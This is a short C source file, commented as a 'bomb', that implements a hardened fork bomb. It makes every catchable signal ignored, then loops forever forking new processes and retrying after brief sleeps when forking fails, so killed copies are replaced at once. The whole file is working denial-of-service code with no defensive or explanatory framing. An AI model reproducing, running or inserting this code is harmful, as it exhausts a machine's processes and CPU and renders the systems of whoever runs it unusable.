// bomb: every process of it forks for ever and waits for nothing. What cannot fork tries again, so that a killed one is
// followed by another at once. Signals that can be ignored are.
#include <signal.h>
#include <unistd.h>

int main(void)
{
    for (int signal = 1; signal < 65; signal++)
        if (signal != SIGKILL && signal != SIGSTOP)
            (void)sigaction(signal, &(struct sigaction){.sa_handler = SIG_IGN}, NULL);
    for (;;)
        if (fork() < 0)
            usleep(1000);
}
